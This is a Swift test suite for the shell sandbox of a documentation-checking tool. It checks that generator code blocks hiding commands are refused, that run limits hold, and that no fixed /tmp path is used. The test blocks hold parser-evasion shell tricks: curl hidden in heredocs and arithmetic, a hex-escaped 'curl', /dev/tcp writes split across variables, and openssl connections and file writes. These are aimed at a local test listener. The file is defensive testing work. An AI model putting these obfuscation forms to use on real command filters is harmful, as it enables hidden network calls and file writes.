import DocModel
import Foundation
import SampleCheck
import Testing

/// The edges of the shell sandbox: constructs that hid a command from the parser (the only
/// barrier under `--sandbox none`), and limits that held for the first run only.
@Suite(.serialized) struct SandboxEdgeTests {
    struct Block {
        let text: String
        var annotation: String?
        /// Rules one of the block's findings must have; empty: the block must pass.
        var rules: Set<RuleID>
    }

    /// bubblewrap (required: a missing one fails the test), or no sandbox.
    static func sandbox(_ mode: String) throws -> Sandbox {
        mode == "none" ? Sandbox(mode: .none) : try Sandbox.detect().get()
    }

    /// Checks the blocks as one page, each marked as a generator; the report and the lines of each block's code.
    func check(_ blocks: [Block], sandbox: Sandbox? = nil, runs: Int = 20, allow: Set<String> = []) throws -> (CheckReport, [ClosedRange<Int>]) {
        var options = CheckOptions()
        options.runs = runs
        options.sandbox = sandbox
        options.allowlist.formUnion(allow)
        return try checkPage("Edges", blocks.map { TestBlock(text: $0.text, annotation: asGenerator($0.annotation)) }, options: options)
    }

    /// Each of these ran a command the parser did not see. They are refused before anything
    /// runs, so this holds with no sandbox at all: the listener sees no connection and no file
    /// is written.
    @Test func hiddenCommandsAreRefusedEvenWithoutTheSandbox() throws {
        let listener = try Listener()
        let port = listener.port
        let evil = "/tmp/keydocs-evil-\(UUID().uuidString)"
        let url = "http://127.0.0.1:\(port)/"
        let blocks = [
            Block(text: "head -c 32 /dev/urandom | base64 <<EOF\n$(curl -s \(url))\nEOF", rules: [.generatorNotAllowed]),
            Block(text: "head -c $(( $(curl -s \(url)) + 32 )) /dev/urandom | base64", rules: [.generatorNotAllowed]),
            Block(text: "x='a[$(curl -s \(url))]'; head -c $((x)) /dev/urandom | base64", rules: [.generatorNotAllowed]),
            Block(text: "$'\\x63url' -s \(url); head -c 32 /dev/urandom | base64", rules: [.generatorNotAllowed]),
            Block(text: "head -c 32 /dev/urandom | base64 > $'\\x2fdev/tcp/127.0.0.1/\(port)'", rules: [.generatorNotAllowed]),
            Block(text: "f=/dev/tc; g=p/127.0.0.1/\(port); head -c 32 /dev/urandom | base64 > $f$g", rules: [.generatorNotAllowed]),
            Block(text: "head -c 32 /dev/urandom | base64 >&\(evil)", rules: [.generatorNotAllowed]),
            Block(text: "openssl rand -out \(evil) 32; openssl rand -hex 16", rules: [.generatorNotAllowed]),
            Block(text: "openssl rand -base64 24 | openssl enc -base64 -out \(evil)", rules: [.generatorNotAllowed]),
            Block(text: "head -c 32 /dev/urandom | xxd -p -c 64 - \(evil)", rules: [.generatorNotAllowed]),
            Block(text: "head -c 16 /dev/urandom | xxd -r -p - \(evil)", rules: [.generatorNotAllowed]),
            Block(text: "openssl s_client -connect 127.0.0.1:\(port)", rules: [.generatorNotAllowed]),
            // The same recipes written safely pass.
            Block(text: "openssl rand -hex 16", rules: []),
            Block(text: "head -c 24 /dev/urandom | base64 <<'EOF'\n$(curl -s \(url))\nEOF", rules: [.generatorRepeats]),
        ]
        let (report, ranges) = try check(blocks, sandbox: Sandbox(mode: .none), runs: 5)
        for (index, block) in blocks.enumerated() {
            let found = Set(report.diagnostics.filter { ranges[index].contains($0.location.line) }.map(\.rule))
            if block.rules.isEmpty {
                #expect(found.isEmpty, "\(block.text): \(found)")
            } else {
                #expect(block.rules.isSubset(of: found), "\(block.text): \(found)")
            }
        }
        #expect(listener.connections == 0)
        #expect(!FileManager.default.fileExists(atPath: evil))
    }

    /// Every run starts as the first does: nothing of the script that drives the runs (its
    /// arguments, its variables) reaches the sample.
    @Test(arguments: ["bwrap", "none"])
    func everyRunStartsClean(_ mode: String) throws {
        let sandbox = try Self.sandbox(mode)
        // A generator may not read variables (the checker refuses them), so the runs are driven directly.
        let batch = sandbox.runBatch(script: "printf '%s|' \"$1\" \"$2\" \"$3\" \"$#\" \"$n$first$run$status$watch$limit$hz$up$u$f$s$p\"; declare -F",
                                     runs: 50, totalSeconds: 30)
        #expect(batch.runs.count == 50)
        for run in batch.runs {
            #expect(String(decoding: run.output, as: UTF8.self) == "|||0||", "\(String(decoding: run.output, as: UTF8.self))")
        }
    }

    /// The time limit holds for every run, not the first only; the memory limit holds for all
    /// of a sample's processes together.
    @Test(arguments: ["bwrap", "none"])
    func limitsHoldForEveryRun(_ mode: String) throws {
        let sandbox = try Self.sandbox(mode)
        let marker = "keydocs-second-run-\(UUID().uuidString)"
        let blocks = [
            Block(text: "head -c 24 /dev/urandom | base64 | tr -d '+/='; bash -c '[ -e /tmp/\(marker) ] && sleep 30; touch /tmp/\(marker)'",
                  annotation: "<!-- check: allow=bash,sleep,touch runs=3 -->", rules: [.generatorLimit]),
            Block(text: "head -c 1 /dev/urandom >/dev/null; bash -c 'head -c 900000000 /dev/zero | tail -c 900000000 >/dev/null'",
                  annotation: "<!-- check: allow=bash,sleep runs=2 -->", rules: [.generatorLimit]),
        ]
        defer { try? FileManager.default.removeItem(atPath: "/tmp/\(marker)") }
        let start = Date()
        // Without the sandbox, only the command line adds commands to the allowlist.
        let (report, ranges) = try check(blocks, sandbox: sandbox, allow: mode == "none" ? ["bash", "sleep", "touch"] : [])
        #expect(Date().timeIntervalSince(start) < 30)
        let timed = report.diagnostics.filter { ranges[0].contains($0.location.line) }
        #expect(timed.contains { $0.rule == .generatorLimit && $0.message.contains("did not finish within 5 s") }, "\(timed.map(\.message))")
        let memory = report.diagnostics.filter { ranges[1].contains($0.location.line) }
        #expect(memory.contains { $0.rule == .generatorLimit && $0.message.contains("MiB of memory together") }, "\(memory.map(\.message))")
    }

    /// Without the sandbox, a run's output goes to a private folder, not a fixed path in /tmp
    /// that another user could have made a link.
    @Test func noFixedPathInTmp() throws {
        let trap = "/tmp/.first-run"
        let victim = "/tmp/keydocs-victim-\(UUID().uuidString)"
        let planted = (try? FileManager.default.createSymbolicLink(atPath: trap, withDestinationPath: victim)) != nil
        defer { if planted { try? FileManager.default.removeItem(atPath: trap) } }
        let (report, _) = try check([Block(text: "tr -dc 'A-Za-z0-9' </dev/urandom | head -c32", rules: [])], sandbox: Sandbox(mode: .none))
        #expect(report.diagnostics.isEmpty, "\(report.diagnostics.map(\.message))")
        #expect(!FileManager.default.fileExists(atPath: victim))
    }
}
